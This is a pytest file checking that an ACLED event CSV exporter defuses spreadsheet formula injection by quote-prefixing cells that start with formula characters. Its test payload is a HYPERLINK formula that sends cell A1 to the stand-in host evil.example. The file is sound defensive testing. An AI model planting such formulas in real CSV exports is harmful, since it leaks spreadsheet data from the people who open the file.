"""ACLED CSV cells that a spreadsheet would run as a formula are written as text (OWASP CSV injection)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from dateline.export.acled import acled_csv
from dateline.model import Event


def _event(**fields: object) -> Event:
    base: dict[str, object] = {"id": "E1", "event_date": dt.date(2024, 3, 1), "country": "Iraq",
                               "latitude": -33.5, "longitude": 44.4, "event_type": "Protests",
                               "sub_event_type": "Peaceful protest"}
    base.update(fields)
    return Event(**base)  # type: ignore[arg-type]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_like_notes_and_actors_are_prefixed_with_a_quote(start: str) -> None:
    payload = f'{start}HYPERLINK("http://evil.example/?x="&A1,"click")'
    row = next(csv.DictReader(io.StringIO(acled_csv([_event(notes=payload, actor1=payload,
                                                              assoc_actor_1=payload)]))))
    for column in ("notes", "actor1", "assoc_actor_1"):
        assert row[column] == "'" + payload, column


def test_numbers_and_ordinary_text_are_left_alone() -> None:
    row = next(csv.DictReader(io.StringIO(acled_csv([_event(notes="Protesters marched.", actor1="Protesters")]))))
    assert row["latitude"] == "-33.5"
    assert row["notes"] == "Protesters marched."
    assert row["actor1"] == "Protesters"
